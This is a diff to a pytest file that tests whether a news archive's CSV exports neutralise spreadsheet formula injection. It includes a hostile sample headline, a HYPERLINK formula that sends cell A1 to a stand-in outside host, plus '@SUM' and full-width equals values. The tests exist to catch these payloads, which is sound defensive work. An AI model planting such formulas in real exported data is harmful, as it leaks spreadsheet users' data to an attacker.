@@ -4,20 +4,24 @@ import csv
 import re
 from collections import Counter
 from collections.abc import Iterator
+from dataclasses import replace
 from html import unescape
 from io import StringIO
+from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from datasette.app import Datasette
-from small_archive import HOSTILE, build
+from hypothesis import given
+from hypothesis import strategies as st
+from small_archive import HOSTILE, TALK, add_versions, build
 from small_site import get, served, text
 from test_phrases import Written, written  # noqa: F401 - the archive of that module
 
 from archive.home import Home
 from archive.publish import reading
-from archive.publish.csv_cells import BYTE_ORDER_MARK, cell
+from archive.publish.csv_cells import BYTE_ORDER_MARK, cell, harmless
 from archive.search.nearest import nearest
 from archive.search.simplified import PAIRS, simplified
 from archive.search.text import fold
@@ -139,6 +143,34 @@ def test_a_sheet_is_cut_with_an_address_to_go_on(many: Datasette) -> None:
 )
 def test_no_cell_of_a_sheet_is_a_formula(value: object, written_as: str) -> None:
     assert cell(value) == written_as
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/search.csv?q=公式", "/data/articles-2024-04.csv", "/archive/articles.csv?key=newsroom-6&_col=headline",
+     "/archive/articles.csv?key=newsroom-6&_header=off&_dl=1", "/archive/newest.csv", "/archive/latest_articles.csv",
+     "/archive.csv?sql=select+headline,speaker,-1,1.5e-7,body_text+from+articles"],
+)  # fmt: skip
+def test_no_sheet_of_the_site_holds_a_formula(tmp_path: Path, path: str) -> None:
+    home = build(tmp_path)
+    formula = '=HYPERLINK("http://news.example/?"&A1,"公式, 算式")'
+    add_versions(home, replace(TALK, identity="6", headline=formula, speaker="＝1+1", paragraphs=("\n@SUM(A1)",)))
+    with served(home) as there:
+        sheet = get(there, path).text
+    cells = [value for row in csv.reader(StringIO(sheet.removeprefix(BYTE_ORDER_MARK))) for value in row]
+    assert f"'{formula}" in cells
+    numbers = [value for value in cells if re.fullmatch(r"-?[\d.]+(e-\d+)?", value)]
+    assert [value for value in cells if value not in numbers and cell(value) != value] == []
+    assert ("-1" in cells) is ("sql" in path)  # numbers stay
+
+
+@given(st.lists(st.lists(st.text("=+-@\"',\r\n\t ＝甲a1", max_size=12), min_size=1, max_size=4), max_size=4))
+def test_rows_that_were_written_elsewhere_are_made_harmless_cell_by_cell(rows: list[list[str]]) -> None:
+    into = StringIO()
+    csv.writer(into).writerows(rows)
+    found = list(csv.reader(StringIO(harmless(into.getvalue()), newline="")))
+    number = re.compile(r"-?\d+")
+    assert found == [[value if number.fullmatch(value) else cell(value) for value in row] for row in rows]
 
 
 def test_a_chosen_value_is_shown_as_what_takes_it_away_again(small: Datasette) -> None:
